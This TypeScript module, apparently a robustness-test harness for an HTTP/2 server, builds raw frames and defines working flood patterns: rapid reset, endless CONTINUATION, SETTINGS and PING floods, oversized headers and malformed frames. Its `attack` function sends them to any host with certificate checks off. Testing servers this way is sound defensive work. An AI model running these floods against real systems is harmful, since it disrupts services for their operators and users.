import { once } from 'node:events'
import { type TLSSocket, connect } from 'node:tls'

/** HTTP/2 frame types by number (RFC 9113 §6). */
const frameTypes = {
  data: 0,
  headers: 1,
  priority: 2,
  rst: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  windowUpdate: 8,
  continuation: 9,
} as const

export function frame(
  type: keyof typeof frameTypes | number,
  flags: number,
  stream: number,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const header = Buffer.alloc(9)
  header.writeUIntBE(payload.byteLength, 0, 3)
  header[3] = typeof type === 'number' ? type : frameTypes[type]
  header[4] = flags
  header.writeUInt32BE(stream >>> 0, 5)
  return Buffer.concat([header, payload])
}

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const endHeaders = 4
/** HPACK literals that are nobody's: `:method POST`, `:scheme https`, `:path /`. */
const request = Buffer.from([0x83, 0x87, 0x84])

/** Ways to misuse a connection; each gives frames for ever, from chance in [0, 1). */
export const attacks: Readonly<
  Record<string, (random: () => number) => (count: number) => Buffer>
> = {
  'rapid reset': () => (count) => {
    const stream = 1 + 2 * count
    return Buffer.concat([
      frame('headers', endHeaders, stream, request),
      frame('rst', 0, stream, Buffer.from([0, 0, 0, 8])),
    ])
  },
  'streams without an end': () => (count) => frame('headers', endHeaders, 1 + 2 * count, request),
  settings: () => () => frame('settings', 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])),
  pings: () => () => frame('ping', 0, 0, Buffer.alloc(8)),
  'continuation without an end': () => (count) =>
    count === 0 ? frame('headers', 0, 1, request) : frame('continuation', 0, 1, Buffer.alloc(200)),
  'large metadata': () => (count) =>
    frame('headers', endHeaders, 1 + 2 * count, Buffer.alloc(16_000, 0x40)),
  'unknown types': (random) => () =>
    frame(20 + Math.floor(random() * 200), 255, 0, Buffer.alloc(Math.floor(random() * 100))),
  'priority of itself': () => (count) =>
    frame('priority', 0, 1 + 2 * count, Buffer.from([0, 0, 0, 1, 1])),
  noise: (random) => () =>
    Buffer.from(Array.from({ length: 1 + Math.floor(random() * 40) }, () => random() * 256)),
  'wrong lengths': (random) => (count) =>
    frame(Math.floor(random() * 10), Math.floor(random() * 256), count, Buffer.alloc(count % 7)),
}

export interface HostileTarget {
  readonly host: string
  readonly port: number
  /** PEM; the data listener asks for them. */
  readonly key?: string
  readonly cert?: string
}

/** Sends frames until so many were sent or the peer has had enough; says how many it took. */
export async function attack(
  target: HostileTarget,
  next: (count: number) => Buffer,
  frames: number,
): Promise<number> {
  const socket: TLSSocket = connect({ ...target, ALPNProtocols: ['h2'], rejectUnauthorized: false })
  socket.on('error', () => socket.destroy())
  socket.resume()
  await once(socket, 'secureConnect').catch(() => undefined)
  if (!socket.destroyed) socket.write(Buffer.concat([preface, frame('settings', 0, 0)]))
  let sent = 0
  while (!socket.destroyed && sent < frames) {
    const batch: Buffer[] = []
    for (let at = 0; at < 200 && sent < frames; at += 1, sent += 1) batch.push(next(sent))
    if (socket.write(Buffer.concat(batch))) {
      await new Promise((resolve) => setImmediate(resolve))
    } else await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => {})
  }
  socket.destroy()
  return sent
}
